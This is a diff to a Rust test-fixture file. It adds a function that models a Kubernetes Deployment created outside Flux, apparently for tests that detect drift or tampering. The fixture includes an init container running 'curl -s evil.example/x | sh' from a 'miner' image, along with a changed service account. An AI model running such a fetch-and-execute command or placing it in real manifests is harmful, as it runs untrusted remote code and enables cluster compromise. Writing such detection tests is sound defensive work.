@@ -101,6 +101,25 @@ pub fn web_stored(version: &str, generation: u64, annotations: &[(&str, &str)]) 
     })
 }
 
+/// shop/web created by hand instead of by Flux: Git's spec, plus what Git never set: an init
+/// container on another image and another service account (everything else as the API
+/// server stores it, Flux's labels included).
+pub fn web_by_hand() -> Value {
+    let mut web = web_stored("6.5.1", 1, &[]);
+    let spec = &mut web["spec"]["template"]["spec"];
+    spec["initContainers"] = json!([{
+        "name": "setup", "image": "evil.example/miner:1.0",
+        "command": ["/bin/sh", "-c", "curl -s evil.example/x | sh"],
+        "resources": {},
+        "terminationMessagePath": "/dev/termination-log",
+        "terminationMessagePolicy": "File",
+        "imagePullPolicy": "IfNotPresent"
+    }]);
+    spec["serviceAccountName"] = json!("deployer");
+    spec["serviceAccount"] = json!("deployer");
+    web
+}
+
 /// The ConfigMap as stored.
 pub fn config_stored() -> Value {
     json!({
